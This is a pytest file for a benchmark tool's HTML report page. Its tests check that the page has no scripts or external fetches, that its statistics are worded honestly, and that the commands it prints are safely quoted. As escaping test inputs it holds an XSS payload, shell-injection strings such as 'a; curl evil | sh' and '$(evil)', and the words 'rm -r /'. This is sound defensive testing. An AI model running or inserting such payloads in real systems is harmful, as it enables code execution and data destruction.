"""The page's text, as a browser's parser reads it."""

import re
import shlex
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from hearth.commands.bench.measures import MEASURES
from hearth.commands.bench.page.bench_page import bench_page
from hearth.commands.bench.page.causes import Causes
from hearth.commands.bench.page.markup import tag, with_code
from hearth.commands.bench.page.method import typable
from hearth.commands.bench.page.workload_kinds import KINDS, OTHERS, kind_of
from hearth.commands.bench.results import HEARTH, Results, Sample
from tests.helpers.bench.made_results import ABOUTS, COUNTED, TIMED, made_results

BYTES_MAX = 1_000_000
VOID = {"meta", "line", "path", "rect", "circle", "use", "br"}


class Parsed(HTMLParser):
    """What a page consists of. Every element must be closed where it was opened."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[str] = []
        self.ids: list[str] = []
        self.links: list[str] = []
        self.words: list[str] = []
        self.feed(text)
        self.close()
        assert self.open == []
        self.text = " ".join(" ".join(self.words).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        told = dict(attrs)
        self.ids += [told["id"] or ""] if "id" in told else []
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in VOID
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open[-1:] != ["style"]:
            self.words.append(data)


@pytest.fixture(scope="module")
def whole() -> str:
    return bench_page(made_results(), Causes(), ABOUTS)


def test_a_full_run_fits_in_one_file_that_fetches_nothing(whole: str) -> None:
    parsed = Parsed(whole)
    assert len(whole.encode()) < BYTES_MAX
    assert "script" not in parsed.tags
    assert all(link.startswith("#") for link in parsed.links)
    assert {link[1:] for link in parsed.links} <= set(parsed.ids), "each link leads somewhere"
    assert len(parsed.ids) == len(set(parsed.ids))
    assert "url(" not in whole
    assert "@import" not in whole


def test_the_first_words_say_what_an_hour_costs_and_where_hearth_is_behind(whole: str) -> None:
    text = Parsed(whole).text
    order = [
        *("Read this first", "In an agent’s hour Hearth", "ideal", "Over all", "behind in"),
        *("40 turns of a session", "Where Hearth is behind", "Sessions and sub-agents"),
    ]
    places = [text.index(each) for each in order]
    assert places == sorted(places)


def test_random_weights_on_a_cpu_are_said_to_be_that() -> None:
    small = made_results(models=("qwen3",), rounds=1)
    assert "random weights" in bench_page(small)
    assert "not on Apple Silicon" in bench_page(small)
    small.machine = "Apple M3 Max, 16 cores, 64 GiB, macOS 15"
    small.models["qwen3"] = replace(small.models["qwen3"], bytes=15_000_000_000)
    assert "random weights" not in bench_page(small)
    assert "Read this first" not in bench_page(small)


def test_the_page_says_that_the_mix_is_made_up_and_what_chance_tells_apart(whole: str) -> None:
    text = Parsed(whole).text
    assert "a mix that we made up" in text
    assert "times without the cancelled prompts" in text
    assert "all but the cancelled prompts" in text
    assert re.search(r"If all servers were alike, up to [1-9]\d* would differ by chance", text)
    assert re.search(r"[\d,]+ more were not compared, as requests failed", text)
    few = Parsed(bench_page(made_results(models=("qwen3",), rounds=2))).text
    assert "If all servers were alike" not in few


def test_what_cannot_be_told_apart_is_not_said_to_be_equal() -> None:
    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"))
    made.samples = [
        replace(
            each, values={**each.values, "cpu_s": 4.0 + each.round % 3 * (each.server != HEARTH)}
        )
        for each in made.samples
    ]
    text = Parsed(bench_page(made)).text
    assert "takes no more CPU than the best as far as these rounds tell" in text


def test_a_stand_in_is_said_to_read_a_prompt_before_it_is_sent_again() -> None:
    small = made_results(models=("qwen3",), rounds=1)
    assert "in the 3 s before one is sent again" in bench_page(small)
    small.models["qwen3"] = replace(small.models["qwen3"], bytes=15_000_000_000)
    assert "but where time decides what is read" in bench_page(small)
    assert "in the 3 s before" not in bench_page(small)


def test_an_error_of_many_workloads_is_told_once() -> None:
    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_vlm"), rounds=2)
    made.samples = [
        replace(each, values={}, errors=("it has ended",)) if each.server == "mlx_vlm" else each
        for each in made.samples
    ]
    count = len({each.workload for each in made.samples})
    text = Parsed(bench_page(made)).text
    assert f"mlx_vlm, {count} workloads: it has ended ({2 * count} times)" in text
    assert text.count("it has ended") == 1


def test_errors_of_a_workload_beyond_a_few_are_counted() -> None:
    made = made_results(models=("qwen3",), servers=(HEARTH,), rounds=5)
    made.samples = [
        replace(each, errors=(f"error {each.round}",))
        for each in made.samples
        if each.workload == "linear"
    ]
    text = Parsed(bench_page(made)).text
    assert "hearth, linear: error 2 (1 time)" in text
    assert "error 3" not in text
    assert "hearth: 2 more kinds of errors." in text


def test_what_a_server_claims_is_no_count_of_how_much_others_read() -> None:
    made = made_results(models=("qwen3",), servers=(HEARTH, "rapid-mlx"))
    assert "the others read" not in bench_page(made), "nobody meters rapid-mlx here"


def test_fewer_rounds_than_four_are_said_to_tell_nothing_apart() -> None:
    page = bench_page(made_results(models=("qwen3",), rounds=2))
    assert "2 rounds cannot tell servers apart" in page
    assert "2 rounds cannot tell on which lines Hearth is behind." in page
    assert "than the best" not in page, "what cannot be told is not said"
    made = made_results(models=("qwen3",), rounds=5)
    interrupted = replace(made, samples=[each for each in made.samples if each.round < 3])
    assert "3 rounds cannot tell servers apart" in bench_page(interrupted)


def test_each_section_begins_with_the_lines_behind(whole: str) -> None:
    sections = re.findall(r"<section>.*?</section>", whole, re.DOTALL)
    titles = [kind.title for kind in KINDS]
    kinds = [each for each in sections if any(f">{title}</h2>" in each for title in titles)]
    assert len(kinds) == len(KINDS)
    for section in kinds:
        behind = section.index("Hearth is behind on")
        assert behind < section.index("<details>")
        assert "<figure" not in section[:behind]
        assert "<figure" in section


def test_causes_stand_at_their_lines_and_lines_without_one_say_so() -> None:
    causes = Causes.parsed("## * / memory\nThe `proxy` holds it.\n\n## live / start_s\nNever.\n")
    page = bench_page(made_results(), causes)
    assert "The <code>proxy</code> holds it." in page
    assert "No cause was written down." in page
    assert "A cause was written for live / start_s, where Hearth is not behind." in page


def hostile(results: Results, text: str) -> Results:
    """Return results in which every text that somebody else wrote is `text`."""
    results.machine = results.version = results.command = text
    results.servers = {
        name: replace(facts, version=text, command=text, notes=(text,))
        for name, facts in results.servers.items()
    }
    results.models = {name: replace(facts, label=text) for name, facts in results.models.items()}
    results.scale = results.began = results.commit = text
    results.samples = [replace(each, errors=(text,), began=text) for each in results.samples]
    # Names of a model, a server and a workload too.
    last = results.samples[-1]
    results.samples += [
        replace(last, workload=text),
        replace(last, server=text),
        replace(last, model=text),
    ]
    return results


def test_what_a_server_says_becomes_no_markup() -> None:
    text = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
    made = hostile(made_results(models=("qwen3",), rounds=4), text)
    parsed = Parsed(bench_page(made, Causes.parsed(f"## * / memory\n{text}\n"), {"linear": text}))
    assert not {"script", "img"} & set(parsed.tags)
    assert parsed.text.count("<script>alert(1)</script>") > 5


@pytest.mark.parametrize("evil", ["a; curl evil | sh", "$(evil)", "`evil`", "--evil", "a\nevil"])
def test_a_command_of_a_strangers_page_is_one_command(evil: str) -> None:
    """What a page says to type can be typed: names are words, whatever they hold."""
    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"), rounds=1)
    made.scale = evil
    made.samples = [replace(each, workload=evil, model=evil) for each in made.samples[:1]]
    made.command = f"hearth bench --model {evil}"
    parsed = Parsed(bench_page(made))
    quoted = " ".join(shlex.quote(evil).split())
    line = f"hearth bench --model {quoted} --servers hearth --workloads {quoted} --scale {quoted}"
    assert line in parsed.text
    for words in (["rm", "-r", "/"], ["hearth", "bench", ";", "evil", "$(evil)", "&&", "`x`"]):
        told = typable(" ".join(words))
        is_own = words[0] == "hearth"
        assert shlex.split(told) == words if is_own else "hearth bench" not in told
    assert typable("hearth bench ; evil") == "hearth bench ';' evil"
    assert "no command" in typable("hearth bench 'x")


def test_a_server_by_url_is_repeated_by_its_url() -> None:
    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"), rounds=1)
    made.command = "hearth bench --servers hearth --server mlx_lm=URL --rounds 1"
    text = Parsed(bench_page(made)).text
    assert "--servers hearth --server mlx_lm=URL --workloads linear" in text


VALUES = st.sampled_from((0.0, 1e15, -1e15, 1e-300, -1e-9, 0.1, 5e14, 7)) | st.floats(-1e15, 1e15)


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from((HEARTH, "mlx_lm")),
            st.sampled_from(("linear", "cancel-0s", "streams-4", "evil", "answers-cold")),
            st.integers(0, 4),
            st.dictionaries(st.sampled_from(sorted(MEASURES)), VALUES, max_size=6),
        ),
        max_size=25,
    )
)
def test_any_numbers_of_a_strangers_file_make_a_page(
    rows: list[tuple[str, str, int, dict[str, float]]],
) -> None:
    made = made_results(models=("qwen3",), servers=(HEARTH, "mlx_lm"), rounds=1)
    made.samples = []
    made.add(Sample("qwen3", *row) for row in rows)
    page = bench_page(made)
    assert not re.search(r'="[^"]*\b(nan|inf)\b', page)
    assert Parsed(page).text


@pytest.mark.parametrize("servers", [(HEARTH,), ("mlx_lm",), (HEARTH, "mlx_lm")])
def test_any_part_of_a_run_makes_a_page(servers: tuple[str, ...]) -> None:
    made = made_results(models=("qwen3", "qwen3_5_vl"), servers=servers, rounds=1)
    for workload in {each.workload for each in made.samples}:
        alone = replace(made, samples=[each for each in made.samples if each.workload == workload])
        assert workload in Parsed(bench_page(alone)).text
    assert "nothing to compare" in bench_page(made) or len(servers) > 1


def test_a_run_without_samples_makes_a_page() -> None:
    empty = replace(made_results(models=("qwen3",), rounds=1), samples=[])
    assert "No workload of an agent’s hour" in Parsed(bench_page(empty)).text.replace("'", "’")


def test_every_workload_has_a_section_of_its_kind() -> None:
    names = (*COUNTED, *TIMED, "answers", "answers-cold", "at-rest", "before-kill", "forked-agent")
    assert [name for name in names if kind_of(name) is OTHERS] == []
    assert kind_of("something-new") is OTHERS


def test_text_is_escaped_and_html_is_not() -> None:
    assert tag("p", "a<b", tag("i", "&"), title='"') == '<p title="&quot;">a&lt;b<i>&amp;</i></p>'
    assert with_code("a `b` c") == "a <code>b</code> c"
    assert with_code("a ` b") == "a ` b"
